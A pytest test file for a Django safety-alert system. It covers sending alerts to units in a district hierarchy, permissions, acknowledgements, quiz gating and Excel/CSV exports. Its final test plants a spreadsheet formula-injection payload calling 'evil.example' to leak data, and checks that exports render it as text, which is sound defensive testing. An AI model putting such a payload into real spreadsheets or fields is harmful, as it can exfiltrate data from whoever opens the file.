import csv
import io

import openpyxl
import pytest

from django.template import Context, Template
from django.test import RequestFactory

from alerts import services
from alerts.models import Dispatch, DispatchRecipient
from organisations.models import Membership, Organisation
from quizzes.models import Attempt
from tests.factories import UserFactory
from tests.organisations.factories import MembershipFactory, OrganisationFactory
from tests.quizzes.factories import QuestionFactory, QuizFactory

from .builders import make_case, make_risk_alert


@pytest.fixture
def district(db):
    """青浦区 → 朱家角镇 (two units, a school, a class) and 徐泾镇 (one unit)."""
    district = OrganisationFactory(name="青浦区", kind=Organisation.Kind.DISTRICT)
    town = OrganisationFactory(name="朱家角镇", kind=Organisation.Kind.TOWN, parent=district)
    other_town = OrganisationFactory(name="徐泾镇", kind=Organisation.Kind.TOWN, parent=district)
    rental = OrganisationFactory(
        name="示例群租房管理点", parent=town, sector="commerce", place_types=["群租房"]
    )
    charging = OrganisationFactory(
        name="示例充电场所", parent=town, sector="other", place_types=["电动自行车集中停放充电场所"]
    )
    school = OrganisationFactory(
        name="示例小学", kind=Organisation.Kind.SCHOOL, parent=town, sector="education"
    )
    OrganisationFactory(name="一年级一班", kind=Organisation.Kind.CLASS, parent=school)
    far_unit = OrganisationFactory(name="徐泾示例单位", parent=other_town, place_types=["群租房"])
    # Siblings are kept sorted by name, so adding one may move the others' paths: reload them.
    return {
        name: Organisation.objects.get(pk=organisation.pk)
        for name, organisation in {
            "district": district,
            "town": town,
            "other_town": other_town,
            "rental": rental,
            "charging": charging,
            "school": school,
            "far_unit": far_unit,
        }.items()
    }


@pytest.fixture
def people(district):
    role = Membership.Role
    return {
        "town_coordinator": MembershipFactory(
            organisation=district["town"], role=role.COORDINATOR, user__name="镇协调员"
        ).user,
        "rental_manager": MembershipFactory(
            organisation=district["rental"], role=role.MANAGER, user__name="李管理"
        ).user,
        "rental_staff": MembershipFactory(organisation=district["rental"], role=role.STAFF).user,
        "charging_responsible": MembershipFactory(
            organisation=district["charging"], role=role.RESPONSIBLE, user__name="王责任"
        ).user,
        "far_manager": MembershipFactory(organisation=district["far_unit"], role=role.MANAGER).user,
    }


@pytest.fixture
def case(alert_index):
    return make_case(alert_index)


def send_form(root, **extra):
    return {"root": root.pk, "kind": "", "place_type": "", "sector": "", **extra}


def recipient_names(dispatch):
    return set(dispatch.recipients.values_list("organisation__name", flat=True))


@pytest.mark.django_db
def test_sending_targets_units_and_schools_in_the_subtree(district, case, reviewer):
    dispatch = services.send_alert(case, reviewer, district["town"])
    assert recipient_names(dispatch) == {"示例群租房管理点", "示例充电场所", "示例小学"}
    assert dispatch.recipient_count == 3


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        ({"place_type": "群租房"}, {"示例群租房管理点", "徐泾示例单位"}),
        ({"sector": "education"}, {"示例小学"}),
        ({"kind": "school"}, {"示例小学"}),
        ({"kind": "unit", "sector": "commerce"}, {"示例群租房管理点"}),
    ],
)
def test_sending_filters_by_place_type_sector_and_kind(district, case, reviewer, filters, expected):
    dispatch = services.send_alert(case, reviewer, district["district"], **filters)
    assert recipient_names(dispatch) == expected


@pytest.mark.django_db
def test_sending_creates_recipients_in_one_insert(
    district, case, reviewer, django_assert_max_num_queries
):
    for number in range(20):
        OrganisationFactory(name=f"批量单位{number}", parent=district["town"])
    # The ninth query is the dispatch's audit entry.
    with django_assert_max_num_queries(9):
        dispatch = services.send_alert(case, reviewer, district["town"])
    assert dispatch.recipients.count() == 23


@pytest.mark.django_db
def test_editor_sends_from_the_site_form_to_any_organisation(client, district, case, editor):
    client.force_login(editor)
    assert client.get(f"/manage/alerts/{case.pk}/send/").status_code == 200
    response = client.post(
        f"/manage/alerts/{case.pk}/send/", send_form(district["district"], place_type="群租房")
    )
    dispatch = Dispatch.objects.get()
    assert response.status_code == 302
    assert response["Location"] == f"/manage/alerts/dispatches/{dispatch.pk}/"
    assert dispatch.sent_by == editor
    assert recipient_names(dispatch) == {"示例群租房管理点", "徐泾示例单位"}


@pytest.mark.django_db
def test_coordinator_can_only_target_organisations_in_scope(client, district, people, case):
    client.force_login(people["town_coordinator"])
    form = client.get(f"/manage/alerts/{case.pk}/send/").context["form"]
    choices = {organisation.name for organisation in form.fields["root"].queryset}
    assert "朱家角镇" in choices
    assert "青浦区" not in choices and "徐泾镇" not in choices
    assert "一年级一班" not in choices
    response = client.post(f"/manage/alerts/{case.pk}/send/", send_form(district["district"]))
    assert response.status_code == 200
    assert response.context["form"].errors["root"]
    assert not Dispatch.objects.exists()
    response = client.post(f"/manage/alerts/{case.pk}/send/", send_form(district["town"]))
    assert response.status_code == 302
    assert "徐泾示例单位" not in recipient_names(Dispatch.objects.get())


@pytest.mark.django_db
def test_no_matching_unit_is_a_form_error_and_nothing_is_sent(client, district, case, editor):
    client.force_login(editor)
    response = client.post(
        f"/manage/alerts/{case.pk}/send/", send_form(district["other_town"], kind="school")
    )
    assert response.status_code == 200
    assert "没有符合条件的单位" in response.content.decode()
    assert not Dispatch.objects.exists()


@pytest.mark.django_db
def test_unpublished_alert_cannot_be_sent(client, district, alert_index, editor):
    draft = make_case(alert_index, slug="draft", publish=False)
    client.force_login(editor)
    assert client.get(f"/manage/alerts/{draft.pk}/send/").status_code == 404
    assert (
        client.post(f"/manage/alerts/{draft.pk}/send/", send_form(district["town"])).status_code
        == 404
    )


@pytest.mark.django_db
def test_learners_cannot_open_the_sending_pages(client, district, people, case):
    client.force_login(people["rental_manager"])
    assert client.get("/manage/alerts/").status_code == 403
    assert client.get(f"/manage/alerts/{case.pk}/send/").status_code == 403
    client.logout()
    assert client.get("/manage/alerts/").status_code == 302  # to sign in


@pytest.mark.django_db
def test_responsible_person_and_manager_see_it_but_staff_do_not(
    client, district, people, case, reviewer
):
    services.send_alert(case, reviewer, district["town"])
    for reader in ("rental_manager", "charging_responsible"):
        client.force_login(people[reader])
        assert case.title in client.get("/notices/").content.decode()
    client.force_login(people["rental_staff"])
    assert case.title not in client.get("/notices/").content.decode()
    client.force_login(people["far_manager"])
    assert case.title not in client.get("/notices/").content.decode()


@pytest.mark.django_db
def test_acknowledging_records_who_and_when(client, district, people, case, reviewer):
    dispatch = services.send_alert(case, reviewer, district["town"])
    recipient = dispatch.recipients.get(organisation=district["rental"])
    client.force_login(people["rental_manager"])
    response = client.post(f"/notices/{recipient.pk}/acknowledge/")
    assert response.status_code == 302
    recipient.refresh_from_db()
    assert recipient.acknowledged_by == people["rental_manager"]
    assert recipient.acknowledged_at is not None
    assert "李管理" in client.get("/notices/", follow=True).content.decode()
    # A second confirmation keeps the first.
    first = recipient.acknowledged_at
    client.post(f"/notices/{recipient.pk}/acknowledge/")
    recipient.refresh_from_db()
    assert recipient.acknowledged_at == first


@pytest.mark.django_db
def test_acknowledging_an_alert_not_sent_to_ones_unit_is_404(
    client, district, people, case, reviewer
):
    dispatch = services.send_alert(case, reviewer, district["town"])
    other_units = dispatch.recipients.get(organisation=district["charging"])
    client.force_login(people["rental_manager"])
    assert client.post(f"/notices/{other_units.pk}/acknowledge/").status_code == 404
    client.force_login(people["rental_staff"])
    own_unit = dispatch.recipients.get(organisation=district["rental"])
    assert client.post(f"/notices/{own_unit.pk}/acknowledge/").status_code == 404
    assert client.post("/notices/999999/acknowledge/").status_code == 404
    assert not DispatchRecipient.objects.filter(acknowledged_at__isnull=False).exists()


@pytest.mark.django_db
def test_acknowledging_needs_a_post(client, district, people, case, reviewer):
    dispatch = services.send_alert(case, reviewer, district["town"])
    recipient = dispatch.recipients.get(organisation=district["rental"])
    client.force_login(people["rental_manager"])
    assert client.get(f"/notices/{recipient.pk}/acknowledge/").status_code == 405


@pytest.mark.django_db
def test_reader_can_confirm_on_the_alert_page_itself(client, district, people, case, reviewer):
    services.send_alert(case, reviewer, district["town"])
    client.force_login(people["rental_manager"])
    text = client.get(case.url).content.decode()
    assert "已阅知" in text and "示例群租房管理点" in text
    client.force_login(people["rental_staff"])
    assert "ack-box" not in client.get(case.url).content.decode()


@pytest.mark.django_db
def test_sender_sees_who_has_and_has_not_acknowledged(
    client, district, people, case, reviewer, django_assert_max_num_queries
):
    dispatch = services.send_alert(case, reviewer, district["town"])
    services.acknowledge(
        dispatch.recipients.get(organisation=district["rental"]), people["rental_manager"]
    )
    client.force_login(reviewer)
    with django_assert_max_num_queries(16):
        response = client.get(f"/manage/alerts/dispatches/{dispatch.pk}/")
    assert response.context["summary"] == {"total": 3, "acknowledged": 1}
    rows = {row.organisation.name: row for row in response.context["page_obj"]}
    assert rows["示例群租房管理点"].acknowledged_by == people["rental_manager"]
    assert rows["示例充电场所"].acknowledged_at is None
    assert rows["示例充电场所"].reader_count == 1
    assert rows["示例小学"].reader_count is None  # nobody to read it: shown as "none registered"
    pending = client.get(f"/manage/alerts/dispatches/{dispatch.pk}/", {"status": "pending"})
    assert {row.organisation.name for row in pending.context["page_obj"]} == {
        "示例充电场所",
        "示例小学",
    }
    overview = client.get("/manage/alerts/").content.decode()
    assert "1 / 3" in overview


@pytest.mark.django_db
def test_status_page_query_count_does_not_grow_with_units(
    client, district, case, reviewer, django_assert_max_num_queries
):
    for number in range(30):
        unit = OrganisationFactory(name=f"批量单位{number}", parent=district["town"])
        MembershipFactory(organisation=unit, role=Membership.Role.MANAGER)
    dispatch = services.send_alert(case, reviewer, district["town"])
    for recipient in dispatch.recipients.all()[:10]:
        services.acknowledge(recipient, reviewer)
    client.force_login(reviewer)
    with django_assert_max_num_queries(16):
        assert client.get(f"/manage/alerts/dispatches/{dispatch.pk}/").status_code == 200
    with django_assert_max_num_queries(16):
        assert client.get("/manage/alerts/").status_code == 200


@pytest.mark.django_db
def test_another_persons_dispatch_is_404(client, district, people, case, reviewer, editor):
    dispatch = services.send_alert(case, reviewer, district["town"])
    for user in (editor, people["town_coordinator"]):
        client.force_login(user)
        assert client.get(f"/manage/alerts/dispatches/{dispatch.pk}/").status_code == 404
        url = f"/manage/alerts/dispatches/{dispatch.pk}/export.xlsx"
        assert client.get(url).status_code == 404


@pytest.mark.django_db
def test_export_to_excel_and_csv(client, district, people, case, reviewer):
    dispatch = services.send_alert(case, reviewer, district["town"])
    services.acknowledge(
        dispatch.recipients.get(organisation=district["rental"]), people["rental_manager"]
    )
    client.force_login(reviewer)
    xlsx = client.get(f"/manage/alerts/dispatches/{dispatch.pk}/export.xlsx")
    assert xlsx.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0][0] == case.title
    assert rows[3][:4] == ["单位", "类型", "状态", "确认人"]
    assert ["示例群租房管理点", "社会单位", "已阅知", "李管理"] in [row[:4] for row in rows]

    response = client.get(f"/manage/alerts/dispatches/{dispatch.pk}/export.csv")
    content = b"".join(response.streaming_content)
    assert content.startswith(b"\xef\xbb\xbf")
    lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert lines[0][0] == "单位"
    assert len(lines) == 4
    assert {line[2] for line in lines[1:]} == {"已阅知", "未阅知"}
    assert client.get(f"/manage/alerts/dispatches/{dispatch.pk}/export.pdf").status_code == 404


def render_pending(user):
    request = RequestFactory().get("/learn/")
    request.user = user
    return Template("{% load alerts_tags %}{% pending_acknowledgements user %}").render(
        Context({"request": request, "user": user})
    )


@pytest.mark.django_db
def test_pending_acknowledgements_tag_lists_what_waits_for_the_user(
    district, people, case, reviewer
):
    dispatch = services.send_alert(case, reviewer, district["town"])
    html = render_pending(people["rental_manager"])
    assert case.title in html and "/notices/" in html
    assert case.title not in render_pending(people["rental_staff"])
    services.acknowledge(
        dispatch.recipients.get(organisation=district["rental"]), people["rental_manager"]
    )
    assert case.title not in render_pending(people["rental_manager"])


@pytest.mark.django_db
def test_risk_alerts_can_be_sent_too(client, district, people, alert_index, reviewer):
    alert = make_risk_alert(alert_index)
    client.force_login(reviewer)
    client.post(f"/manage/alerts/{alert.pk}/send/", send_form(district["town"]))
    client.force_login(people["charging_responsible"])
    assert alert.title in client.get("/notices/").content.decode()


@pytest.mark.django_db
def test_unpublished_alert_disappears_from_the_notices(client, district, people, case, reviewer):
    services.send_alert(case, reviewer, district["town"])
    case.unpublish()
    client.force_login(people["rental_manager"])
    assert case.title not in client.get("/notices/").content.decode()


@pytest.mark.django_db
def test_admin_page_header_offers_sending(client, case, reviewer):
    client.force_login(reviewer)
    text = client.get(f"/admin/pages/{case.pk}/edit/").content.decode()
    assert f"/manage/alerts/{case.pk}/send/" in text


@pytest.mark.django_db
def test_superuser_only_people_see_their_own_dispatch_list(client, district, case, reviewer):
    services.send_alert(case, reviewer, district["town"])
    client.force_login(UserFactory(is_superuser=True))
    assert case.title not in client.get("/manage/alerts/").content.decode().split("已发布的警示")[0]


@pytest.fixture
def check_quiz(db):
    return QuizFactory(title="群租房检查要点小测", questions=[QuestionFactory()])


@pytest.mark.django_db
def test_with_a_check_quiz_confirming_needs_a_passed_attempt(
    client, district, people, case, reviewer, check_quiz
):
    dispatch = services.send_alert(case, reviewer, district["town"], check_quiz=check_quiz)
    recipient = dispatch.recipients.get(organisation=district["rental"])
    manager = people["rental_manager"]
    client.force_login(manager)
    page = client.get("/notices/").content.decode()
    assert "群租房检查要点小测" in page
    response = client.post(f"/notices/{recipient.pk}/acknowledge/", follow=True)
    assert "请先通过" in response.content.decode()
    recipient.refresh_from_db()
    assert recipient.acknowledged_at is None

    Attempt.objects.create(
        user=manager, quiz=check_quiz, status=Attempt.Status.GRADED, passed=False, score=0
    )
    client.post(f"/notices/{recipient.pk}/acknowledge/")
    recipient.refresh_from_db()
    assert recipient.acknowledged_at is None

    Attempt.objects.create(
        user=manager, quiz=check_quiz, status=Attempt.Status.GRADED, passed=True, score=100
    )
    client.post(f"/notices/{recipient.pk}/acknowledge/")
    recipient.refresh_from_db()
    assert recipient.acknowledged_by == manager


@pytest.mark.django_db
def test_the_send_form_offers_the_check_quiz(client, district, case, editor, check_quiz):
    client.force_login(editor)
    response = client.post(
        f"/manage/alerts/{case.pk}/send/",
        {
            "root": district["town"].pk,
            "kind": "",
            "place_type": "",
            "sector": "",
            "check_quiz": check_quiz.pk,
        },
    )
    assert response.status_code == 302
    assert case.dispatches.get().check_quiz == check_quiz


@pytest.mark.django_db
def test_a_large_scope_lists_only_organisations_with_others_below(
    client, district, people, case, monkeypatch
):
    from alerts import forms

    client.force_login(people["town_coordinator"])
    every = {
        o.name
        for o in client.get(f"/manage/alerts/{case.pk}/send/")
        .context["form"]
        .fields["root"]
        .queryset
    }
    monkeypatch.setattr(forms, "ROOT_CHOICES_LIMIT", 1)
    form = client.get(f"/manage/alerts/{case.pk}/send/").context["form"]
    listed = {organisation.name for organisation in form.fields["root"].queryset}
    assert "朱家角镇" in listed
    assert listed < every
    assert all(organisation.numchild > 0 for organisation in form.fields["root"].queryset)
    assert "只列出" in str(form.fields["root"].help_text)


@pytest.mark.django_db
def test_a_manager_named_like_a_formula_is_text_in_the_dispatch_exports(
    client, district, people, case, reviewer
):
    hostile = '=HYPERLINK("http://evil.example/?leak","点我")'
    manager = people["rental_manager"]
    manager.name = hostile
    manager.save()
    Organisation.objects.filter(pk=district["charging"].pk).update(name="-2+3\x07")
    dispatch = services.send_alert(case, reviewer, district["town"])
    services.acknowledge(dispatch.recipients.get(organisation=district["rental"]), manager)
    client.force_login(reviewer)
    xlsx = client.get(f"/manage/alerts/dispatches/{dispatch.pk}/export.xlsx")
    assert xlsx.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row}
    assert cells[hostile].data_type == "s" and cells["-2+3"].data_type == "s"
    response = client.get(f"/manage/alerts/dispatches/{dispatch.pk}/export.csv")
    lines = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    values = {value for line in lines for value in line}
    assert "'" + hostile in values and "'-2+3" in values
    assert hostile not in values
